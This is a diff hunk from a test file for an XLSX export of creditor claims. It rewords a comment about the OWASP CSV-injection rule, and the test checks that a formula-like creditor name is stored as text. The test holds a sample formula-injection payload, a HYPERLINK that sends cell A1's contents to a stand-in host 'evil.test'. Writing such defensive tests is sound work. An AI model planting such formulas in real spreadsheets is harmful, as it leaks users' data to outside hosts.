@@ -222,7 +222,7 @@ describe('the XLSX', () => {
     expect(rows.some((r) => r[1] === 'Inga fordringar har bevakats.')).toBe(true);
     expect(rows.at(-1)?.slice(1, 6)).toEqual(['Summa totalt', '0 fordringar', undefined, 0, 0]);
   });
-  // Issue 12 §4 (OWASP CSV injection) holds for the workbook too: a name is a text cell, never a formula.
+  // The CSV-injection rule (OWASP) holds for the workbook too: a name is a text cell, never a formula.
   it('writes a creditor name that looks like a formula as text', async () => {
     const hostile = '=HYPERLINK("http://evil.test/?d="&A1,"Öppna")';
     const claim = {
